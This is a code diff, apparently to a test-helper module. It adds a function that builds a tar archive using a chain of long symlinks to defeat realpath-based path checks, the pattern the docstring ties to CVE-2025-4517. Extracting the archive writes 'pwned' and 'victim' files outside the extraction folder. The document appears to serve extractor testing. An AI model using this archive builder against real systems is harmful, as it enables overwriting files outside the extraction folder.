@@ -91,3 +91,38 @@ def tar_with_member(archive: Path, name: str, payload: bytes = b"x", *,
             info.size = len(payload)
             tf.addfile(info, io.BytesIO(payload))
     return archive
+
+
+def chained_symlink_tar(archive: Path, *, levels: int = 16) -> Path:
+    """An archive that escapes lexical path checks (the pattern of CVE-2025-4517).
+
+    A chain of symlinks ``a → ddd…``, ``ddd…/b → ddd…``, … makes the on-disk path of
+    ``a/b/…/p`` longer than PATH_MAX, where ``os.path.realpath`` stops resolving and
+    falls back to reading the path as text. A link placed there (``a/…/p/lll… → ../…``)
+    really points at the extraction folder, so ``escape → a/…/p/lll…/../..`` really
+    points two folders above it, while every check on the text says "inside". The
+    members ``escape/pwned`` and ``escape/victim`` then write beside the grandparent of
+    the extraction folder.
+    """
+    comp = "d" * 247
+    letters = "abcdefghijklmnopqrstuvwxyz"[:levels]
+
+    def add(name: str, kind: bytes, target: str = "", payload: bytes = b"") -> None:
+        info = tarfile.TarInfo(name)
+        info.type = kind
+        info.linkname = target
+        info.size = len(payload)
+        tf.addfile(info, io.BytesIO(payload) if payload else None)
+
+    with tarfile.open(archive, "w", format=tarfile.PAX_FORMAT) as tf:
+        prefix = ""
+        for letter in letters:
+            add(prefix + comp, tarfile.DIRTYPE)
+            add(prefix + letter, tarfile.SYMTYPE, comp)
+            prefix += comp + "/"
+        long_link = "/".join(letters) + "/" + "l" * 254
+        add(long_link, tarfile.SYMTYPE, "../" * levels)
+        add("escape", tarfile.SYMTYPE, long_link + "/../..")
+        add("escape/pwned", tarfile.REGTYPE, payload=b"written outside\n")
+        add("escape/victim", tarfile.REGTYPE, payload=b"overwritten\n")
+    return archive
